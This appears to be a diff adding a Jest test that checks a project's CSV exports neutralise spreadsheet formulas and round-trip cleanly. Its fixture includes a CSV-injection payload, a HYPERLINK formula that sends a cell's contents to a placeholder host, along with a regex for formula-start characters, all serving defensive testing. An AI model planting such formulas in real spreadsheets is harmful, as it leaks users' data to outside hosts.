@@ -1,0 +1,104 @@
+import { spawnSync } from 'node:child_process';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { parse } from 'csv-parse/sync';
+
+/**
+ * The files the command line writes (`npm run export`, `npm run export:site`) neutralise
+ * spreadsheet formulas, and the exchange files still go round: exported, imported into an empty
+ * database and exported again, they are the same bytes (README, « Formulas in CSV files »).
+ */
+
+jest.setTimeout(400_000);
+
+const ROOT = path.join(__dirname, '..', '..');
+const TSX = path.join(ROOT, 'node_modules', '.bin', 'tsx');
+
+function run(script: 'import' | 'export' | 'export-site', args: string[], databasePath: string) {
+  const result = spawnSync(TSX, [`server/cli/${script}.ts`, ...args], {
+    cwd: ROOT,
+    env: { ...process.env, DATABASE_PATH: databasePath, DEMO_DATA: 'off', PORT: '' },
+    encoding: 'utf8',
+    timeout: 300_000,
+  });
+  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
+}
+
+const FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1,"Cliquez ici")';
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;
+
+const cellsOf = (csv: string) => parse(csv, { bom: true, relax_column_count: true }) as string[][];
+const formulaCells = (csv: string) =>
+  cellsOf(csv)
+    .flat()
+    .filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
+
+/** Hand-made files as a user writes them: a leading tab or CR only survives behind the prefix, and `''=` is a typed `'=`. */
+const INPUT: Record<string, string> = {
+  'states.csv': `iso3,name_fr,name_en,party\nAFG,"'\rAfghanistan",Afghanistan,yes\nKHM,@Cambodge,Cambodia,yes\n`,
+  'answers.csv':
+    'year,state,indicator,answer,source,note\n' +
+    `2025,AFG,10.1,yes,"${FORMULA.replace(/"/g, '""')}",-5 mines détruites\n` +
+    `2025,KHM,10.1,no,+33 1 23 45,"'\tnote tabulée"\n` +
+    `2025,COL,10.1,yes,''=une apostrophe tapée,'sans formule\n` +
+    '2026,COL,10.1,yes,,\n',
+  'figures.csv': 'year,indicator,value,denominator\n2025,5.3,12,\n2026,5.3,4.5,\n',
+};
+
+const EXCHANGE = ['states.csv', 'populations.csv', 'reports.csv', 'answers.csv', 'figures.csv'];
+
+describe('CSV files written by the command line', () => {
+  let tmp: string;
+  beforeAll(() => {
+    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-formulas-'));
+    fs.mkdirSync(path.join(tmp, 'input'));
+    for (const [name, content] of Object.entries(INPUT)) fs.writeFileSync(path.join(tmp, 'input', name), content);
+    const imported = run('import', ['--publish', ...Object.keys(INPUT).map((n) => path.join(tmp, 'input', n))], path.join(tmp, 'a.sqlite'));
+    expect(imported.stderr).toBe('');
+    expect(imported.status).toBe(0);
+  });
+  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
+
+  test('npm run export: text is neutralised, numbers are not, and export → import → export gives the same files', () => {
+    const first = path.join(tmp, 'export-a');
+    expect(run('export', [first], path.join(tmp, 'a.sqlite')).status).toBe(0);
+    const files = Object.fromEntries(EXCHANGE.map((n) => [n, fs.readFileSync(path.join(first, n), 'utf8')]));
+    for (const content of Object.values(files)) expect(formulaCells(content)).toEqual([]);
+    expect(files['states.csv']).toContain(`\nAFG,"'\rAfghanistan",Afghanistan,yes,,\n`);
+    expect(files['states.csv']).toContain(`\nKHM,'@Cambodge,Cambodia,yes,,\n`);
+    expect(files['answers.csv']).toContain(
+      'year,state,indicator,answer,source,note\n' +
+        `2025,AFG,10.1,yes,"'${FORMULA.replace(/"/g, '""')}",'-5 mines détruites\n` +
+        `2025,COL,10.1,yes,''=une apostrophe tapée,'sans formule\n` +
+        `2025,KHM,10.1,no,'+33 1 23 45,"'\tnote tabulée"\n`,
+    );
+    expect(files['figures.csv']).toBe('year,indicator,value,denominator\n2025,5.3,12,\n2026,5.3,4.5,\n');
+
+    const importedBack = run('import', EXCHANGE.map((n) => path.join(first, n)), path.join(tmp, 'b.sqlite'));
+    expect(importedBack.stderr).toBe('');
+    expect(importedBack.status).toBe(0);
+    const second = path.join(tmp, 'export-b');
+    expect(run('export', [second], path.join(tmp, 'b.sqlite')).status).toBe(0);
+    for (const name of EXCHANGE) expect(fs.readFileSync(path.join(second, name), 'utf8')).toBe(files[name]);
+  });
+
+  test('npm run export:site: every CSV of the static copy is neutralised; a fall stays a negative number', () => {
+    const site = path.join(tmp, 'site');
+    const result = run('export-site', [site], path.join(tmp, 'a.sqlite'));
+    expect(result.stderr).toBe('');
+    expect(result.status).toBe(0);
+    const csvFiles = (fs.readdirSync(site, { recursive: true }) as string[]).filter((f) => f.endsWith('.csv'));
+    expect(csvFiles.length).toBeGreaterThan(10);
+    for (const name of csvFiles) expect([name, formulaCells(fs.readFileSync(path.join(site, name), 'utf8'))]).toEqual([name, []]);
+
+    const answersFile = csvFiles.find((f) => f.endsWith('reponses.csv'))!;
+    const notes = cellsOf(fs.readFileSync(path.join(site, answersFile), 'utf8')).flat();
+    expect(notes).toEqual(expect.arrayContaining([`'${FORMULA}`, "'-5 mines détruites", "'\tnote tabulée", "'\rAfghanistan", "''=une apostrophe tapée"]));
+    const indicators = cellsOf(fs.readFileSync(path.join(site, csvFiles.find((f) => f.endsWith('indicateurs.csv'))!), 'utf8'));
+    const header = indicators[0]!;
+    const fall = indicators.find((r) => r[header.indexOf('indicator')] === '5.3' && r[header.indexOf('year')] === '2026')!;
+    expect(fall[header.indexOf('delta')]).toBe('-7.5');
+  });
+});
